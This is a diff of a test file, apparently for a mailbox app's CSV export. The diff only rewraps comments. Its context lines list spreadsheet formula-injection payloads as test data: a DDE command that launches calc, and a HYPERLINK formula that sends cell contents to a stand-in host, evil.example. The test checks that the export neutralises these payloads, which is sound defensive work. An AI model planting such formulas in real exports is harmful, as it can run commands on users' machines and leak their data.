@@ -48,7 +48,10 @@ it("an export runs no formula, whatever it begins with", async ({ mailbox }) => 
   expect(shown).toEqual(formulas.map((formula) => `'${formula}`).toReversed());
 });
 
-/** Texts that are more than one cell to a spreadsheet that separates by other signs, and what the export has instead. */
+/**
+ * Texts that are more than one cell to a spreadsheet that separates by other signs, and what the
+ * export has instead.
+ */
 const ofSeveralCells = [
   ["hello\n=cmd|'/c calc'!A0", "hello\n'=cmd|'/c calc'!A0"],
   ['a;=HYPERLINK("http://evil.example/?"&A1;"x")', `a;'=HYPERLINK("http://evil.example/?"&A1;"x")`],
@@ -77,8 +80,9 @@ it.for([",", ";", "\t", ";\t", ",;\t"])(
       await mailbox.post({ message: text, subject: text, name: text.replaceAll("://", " ") });
     }
     const csv = await mailbox.page("/mailbox/export.csv");
-    // Without a comma the quotes are not where a cell begins and ends, and readers differ in what they make of them. So a
-    // cell begins after every separator here, and quotes before a text are dropped.
+    // Without a comma the quotes are not where a cell begins and ends, and readers differ in what
+    // they make of them. So a cell begins after every separator here, and quotes before a text are
+    // dropped.
     const quote = separators.includes(",") ? '"' : null;
     const rows: string[][] = parse(csv, {
       delimiter: [...separators],
